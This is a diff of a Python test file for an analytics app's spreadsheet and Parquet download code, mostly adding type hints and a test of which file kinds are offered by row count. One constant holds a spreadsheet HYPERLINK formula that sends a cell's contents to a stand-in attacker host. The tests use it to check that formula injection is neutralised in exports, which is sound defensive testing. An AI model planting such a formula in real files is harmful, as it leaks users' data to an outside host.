@@ -3,6 +3,7 @@ import re
 from contextlib import closing
 from datetime import date
 from io import BufferedReader, BytesIO, StringIO
+from typing import Any
 from xml.etree import ElementTree
 from zipfile import ZipFile
 
@@ -18,6 +19,7 @@ from analytics.access import MANAGER
 from analytics.downloads import Column, inert
 from analytics.filters import Filters
 from analytics.paging import log_page
+from analytics.store import Store
 
 EVERYTHING = Filters(first=date(1970, 1, 1), last=date(2199, 12, 31), scope=MANAGER, version=0)
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A2;"Åpne")'
@@ -46,7 +48,7 @@ HOSTILE = '=HYPERLINK("https://evil.example/?"&A2;"Åpne")'
         "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
     ],
 )
-def test_a_text_that_could_start_a_formula_gets_an_apostrophe(text):
+def test_a_text_that_could_start_a_formula_gets_an_apostrophe(text: str) -> None:
     assert inert(text) == f"'{text}"
 
 
@@ -66,12 +68,12 @@ def test_a_text_that_could_start_a_formula_gets_an_apostrophe(text):
         " =1+1",
     ],
 )
-def test_other_texts_stay_as_they_are(text):
+def test_other_texts_stay_as_they_are(text: str) -> None:
     assert inert(text) == text
 
 
 @given(st.text())
-def test_no_text_starts_a_formula_unless_it_is_a_number(text):
+def test_no_text_starts_a_formula_unless_it_is_a_number(text: str) -> None:
     written = inert(text)
     assert (
         not written
@@ -80,17 +82,19 @@ def test_no_text_starts_a_formula_unless_it_is_a_number(text):
     )
 
 
-def written(store, sheet, language, kind="csv"):
+def written(store: Store, sheet: downloads.Sheet, language: str, kind: str = "csv") -> bytes:
     with closing(downloads.written(sheet, kind, store.folder("temp"), language)) as file:
         return file.read()
 
 
-def rows_of(store, filters, language, kind="csv"):
+def rows_of(store: Store, filters: Filters, language: str, kind: str = "csv") -> bytes:
     return written(store, downloads.messages(store, filters, language), language, kind)
 
 
 @pytest.mark.parametrize(("language", "separator"), [("nb", ";"), ("en", ",")])
-def test_a_spreadsheet_gets_its_separator_its_mark_and_its_words(store, language, separator):
+def test_a_spreadsheet_gets_its_separator_its_mark_and_its_words(
+    store: Store, language: str, separator: str
+) -> None:
     content = rows_of(store, EVERYTHING, language)
     assert content.startswith(b"\xef\xbb\xbf")
     read = list(csv.DictReader(StringIO(content.decode("utf-8-sig")), delimiter=separator))
@@ -100,7 +104,7 @@ def test_a_spreadsheet_gets_its_separator_its_mark_and_its_words(store, language
     assert not {"delivered", "failed"} & {cell for row in read[:500] for cell in row.values()}
 
 
-def test_times_are_the_shops_clock_and_the_newest_comes_first(store):
+def test_times_are_the_shops_clock_and_the_newest_comes_first(store: Store) -> None:
     # Not the night when the clock is put back, whose hour comes twice.
     chosen = EVERYTHING.narrowed(first=date(2026, 10, 27), last=date(2026, 10, 31))
     content = rows_of(store, chosen, "en").decode("utf-8-sig")
@@ -110,14 +114,14 @@ def test_times_are_the_shops_clock_and_the_newest_comes_first(store):
     assert times == sorted(times, reverse=True)
 
 
-def test_exactly_what_is_selected_is_downloaded(store):
+def test_exactly_what_is_selected_is_downloaded(store: Store) -> None:
     chosen = EVERYTHING.narrowed(outcomes=("failed",))
     lines = rows_of(store, chosen, "en").decode("utf-8-sig").splitlines()
     counted = store.ask("count_totals", chosen)["emails"].iloc[0]
     assert len(lines) == counted + 1
 
 
-def test_a_hostile_subject_is_inert_in_the_file(store):
+def test_a_hostile_subject_is_inert_in_the_file(store: Store) -> None:
     with store.change() as cursor:
         cursor.execute("UPDATE messages SET subject = $subject", {"subject": HOSTILE})
     content = rows_of(store, EVERYTHING, "nb").decode("utf-8-sig")
@@ -126,13 +130,13 @@ def test_a_hostile_subject_is_inert_in_the_file(store):
     assert ';"=HYPERLINK' not in content
 
 
-def test_nothing_of_a_download_stays_on_the_disk(store):
+def test_nothing_of_a_download_stays_on_the_disk(store: Store) -> None:
     before = set(store.folder("temp").iterdir())
     rows_of(store, EVERYTHING, "en")
     assert set(store.folder("temp").iterdir()) == before
 
 
-def test_rejected_rows_are_downloaded_with_their_line_and_why(store):
+def test_rejected_rows_are_downloaded_with_their_line_and_why(store: Store) -> None:
     with store.change() as cursor:
         cursor.execute("DELETE FROM rejected_rows")
         cursor.execute("DELETE FROM imports")
@@ -152,7 +156,7 @@ def test_rejected_rows_are_downloaded_with_their_line_and_why(store):
     assert "time" in read[0]["Why it was rejected"]
 
 
-def cells(book):
+def cells(book: bytes) -> Any:
     """Return the texts of a spreadsheet, row by row; a formula would have another element."""
     with ZipFile(BytesIO(book)) as parts:
         sheet = ElementTree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
@@ -164,7 +168,7 @@ def cells(book):
     ]
 
 
-def test_a_spreadsheet_file_holds_the_same_rows_without_formulas(store):
+def test_a_spreadsheet_file_holds_the_same_rows_without_formulas(store: Store) -> None:
     with store.change() as cursor:
         cursor.execute("UPDATE messages SET subject = $subject", {"subject": HOSTILE})
     chosen = EVERYTHING.narrowed(outcomes=("failed",))
@@ -174,7 +178,22 @@ def test_a_spreadsheet_file_holds_the_same_rows_without_formulas(store):
     assert {row[heading.index("Utfall")] for row in rows} == {"Feilet"}
 
 
-def test_parquet_holds_the_logs_own_codes(store):
+@pytest.mark.parametrize(
+    ("rows", "kinds"),
+    [
+        (downloads.MOST_IN_EXCEL, ("csv", "xlsx", "parquet")),
+        (downloads.MOST_IN_EXCEL + 1, ("csv", "parquet")),
+        (downloads.MOST_ROWS, ("csv", "parquet")),
+        (downloads.MOST_ROWS + 1, ("parquet",)),
+    ],
+)
+def test_no_file_is_offered_that_a_browser_or_a_spreadsheet_gives_up_on(
+    rows: int, kinds: tuple[str, ...]
+) -> None:
+    assert downloads.kinds_for(rows) == kinds
+
+
+def test_parquet_holds_the_logs_own_codes(store: Store) -> None:
     chosen = EVERYTHING.narrowed(outcomes=("failed",))
     table = pq.read_table(BytesIO(rows_of(store, chosen, "nb", "parquet")))
     assert table.column_names == list(downloads.MESSAGES)
@@ -187,13 +206,13 @@ def test_parquet_holds_the_logs_own_codes(store):
 @pytest.mark.parametrize(
     ("language", "line"), [("nb", "0,25;2026-10-31"), ("en", "0.25,2026-10-31")]
 )
-def test_a_frame_is_written_in_the_readers_locale(store, language, line):
+def test_a_frame_is_written_in_the_readers_locale(store: Store, language: str, line: str) -> None:
     frame = pd.DataFrame({"rate": [0.25], "day": [date(2026, 10, 31)], "hidden": ["k@x.example"]})
     sheet = downloads.of_frame(frame, {"rate": Column("Rate"), "day": Column("Day")})
     assert written(store, sheet, language).decode("utf-8-sig").splitlines()[1] == line
 
 
-def test_a_download_is_a_file_that_streamlit_can_serve(store):
+def test_a_download_is_a_file_that_streamlit_can_serve(store: Store) -> None:
     sheet = downloads.messages(store, EVERYTHING, "en")
     with closing(downloads.written(sheet, "csv", store.folder("temp"), "en")) as file:
         assert isinstance(file, BufferedReader)
